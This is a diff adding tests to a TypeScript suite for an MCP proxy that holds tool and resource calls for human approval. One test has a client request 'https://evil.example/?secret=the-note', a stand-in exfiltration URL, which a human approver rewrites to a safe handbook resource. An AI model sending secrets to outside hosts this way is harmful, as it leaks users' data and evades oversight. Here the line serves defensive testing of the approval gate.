@@ -111,6 +111,26 @@ describe.concurrent.each(ERAS)('the proxy in front of an MCP server (%s)', (era)
     );
   });
 
+  it('reads the resource that the approver entered', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect();
+    await client.callTool(READ);
+    const read = client.readResource({ uri: 'https://evil.example/?secret=the-note' });
+    const { approval_id: id } = await office.pending();
+    const editedArgs = { uri: 'office://handbook' };
+    await office.review((engine) => engine.decide(id, 'approve', { by: { id: 'mika' }, editedArgs }));
+    expect((await read).contents).toMatchObject([{ text: 'Work from nine to five.' }]);
+  });
+
+  it('gets the prompts of two servers with equal names in two calls', async (context) => {
+    const office = new Office(context);
+    const client = await office.connect({ settings: { prefix: true }, servers: ['one', 'two'] });
+    const get = (name: string) => client.getPrompt({ name, arguments: { name: 'Ada' } });
+    expect(await Promise.all([get('one__greet'), get('two__greet')])).toHaveLength(2);
+    const calls = await office.review((engine) => engine.getExecutionLogs({ event: 'tool.start' }));
+    expect(calls).toHaveLength(2);
+  });
+
   it('judges the tools of a published server by its manifest pack', async (context) => {
     const office = new Office(context);
     const memory = join(import.meta.dirname, '../../../node_modules/@modelcontextprotocol/server-memory');
